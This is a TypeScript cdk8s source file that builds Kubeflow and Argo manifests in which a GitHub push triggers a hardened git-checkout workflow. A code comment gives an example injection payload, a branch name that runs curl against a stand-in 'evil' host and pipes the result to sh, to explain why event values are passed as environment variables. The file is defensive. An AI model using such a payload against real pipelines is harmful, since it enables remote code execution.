// The default app: what `npm run synth` writes to dist/. The constructs come from the library
// package cdk8s-kubeflow-argo (packages/library/), as in any cdk8s app that installs it.
import { App, YamlOutputType } from 'cdk8s';
import { WorkflowTemplateSpecTemplatesContainerResourcesLimits as Quantity } from 'cdk8s-kubeflow-argo/imports/argoproj.io';
import { EventField, KubeflowArgoChart, Platform } from 'cdk8s-kubeflow-argo';

/** The Kubeflow 1.4 example profile (created by the example install for user@example.com). */
export const EXAMPLE_PROFILE = 'kubeflow-user-example-com';

/**
 * The Secret the GitHub event source checks webhook signatures with. Create it before
 * applying dist/ (docs/events.md, "Trigger workflows from GitHub"):
 *   kubectl -n argo-events create secret generic github-webhook --from-literal=secret=$(openssl rand -hex 20)
 */
export const GITHUB_WEBHOOK_SECRET = { name: 'github-webhook', key: 'secret' };

/**
 * The checkout step: values come from the environment; a value that starts with "-" is refused
 * (git would read it as an option), and git may only fetch over https.
 */
export const CHECKOUT_SCRIPT = [
  'for v in "$REVISION" "$BRANCH"; do case "$v" in -*) echo "refusing revision or branch that starts with -: $v" >&2; exit 1;; esac; done',
  'git -c protocol.allow=never -c protocol.https.allow=always clone --branch "$BRANCH" -- "$REPO_URL" /tmp/src',
  'cd /tmp/src',
  'git checkout --detach "$REVISION"',
  'git log -1',
].join(' && ');

/**
 * Builds the default app for `platform` (Kubeflow 1.4 for dist/; examples/latest/ uses
 * the same app on the newest release); `outdir` defaults to cdk8s' own (`CDK8S_OUTDIR` or `dist`).
 */
export function buildApp(outdir?: string, platform: Platform = Platform.DEFAULT): App {
  const app = new App({ outdir, yamlOutputType: YamlOutputType.FILE_PER_CHART });
  new KubeflowArgoChart(app, 'kubeflow-argo', {
    platform,
    profiles: [EXAMPLE_PROFILE],
    kubeflowRoles: true,
    // Each profile gets a template that checks out the pushed commit.
    workflowTemplate: {
      name: 'checkout-on-push',
      arguments: {
        parameters: [
          { name: 'repo-url', value: 'https://github.com/kubeflow/pipelines.git' },
          { name: 'revision', value: 'master' },
          { name: 'branch', value: 'master' },
        ],
      },
      templates: [{
        name: 'checkout',
        inputs: { parameters: [{ name: 'repo-url' }, { name: 'revision' }, { name: 'branch' }] },
        container: {
          name: 'main',
          image: 'docker.io/alpine/git:v2.32.0',
          // Event values arrive as environment variables, never as shell text: Argo substitutes
          // {{…}} as text, and a branch may be named x";curl${IFS}evil|sh;" (docs/security.md, "Security").
          env: [
            { name: 'REPO_URL', value: '{{inputs.parameters.repo-url}}' },
            { name: 'REVISION', value: '{{inputs.parameters.revision}}' },
            { name: 'BRANCH', value: '{{inputs.parameters.branch}}' },
            // git wants a home to read its config from; the image's is root's
            { name: 'HOME', value: '/tmp' },
          ],
          command: ['sh', '-c'],
          args: [CHECKOUT_SCRIPT],
          // what Pod Security "restricted" asks, as for argo-server: not root (nobody; the clone
          // goes to /tmp), no privilege escalation, no capabilities, the runtime's seccomp profile
          securityContext: {
            runAsNonRoot: true, runAsUser: 65534, runAsGroup: 65534, allowPrivilegeEscalation: false,
            capabilities: { drop: ['ALL'] }, seccompProfile: { type: 'RuntimeDefault' },
          },
          resources: {
            requests: { cpu: Quantity.fromString('100m'), memory: Quantity.fromString('128Mi') },
            limits: { cpu: Quantity.fromString('1'), memory: Quantity.fromString('512Mi') },
          },
        },
      }],
    },
    // A push to GitHub starts that template in the example profile.
    events: {
      sources: [{
        type: 'github',
        name: 'github',
        repositories: ['example-org/example-repo'],
        webhookSecret: GITHUB_WEBHOOK_SECRET,
      }],
      triggers: [{
        source: 'github',
        profile: EXAMPLE_PROFILE,
        branches: ['main'],
        parameters: {
          'repo-url': EventField.repositoryUrl(),
          'revision': EventField.revision(),
          'branch': EventField.branch(),
        },
      }],
    },
  });
  return app;
}

// Run directly (`ts-node main.ts`), the synth command does the work: checked output, a
// Kustomization, and the output-directory rules (docs/synth.md, "Synth").
if (require.main === module) require(`${__dirname}/scripts/synth.js`);
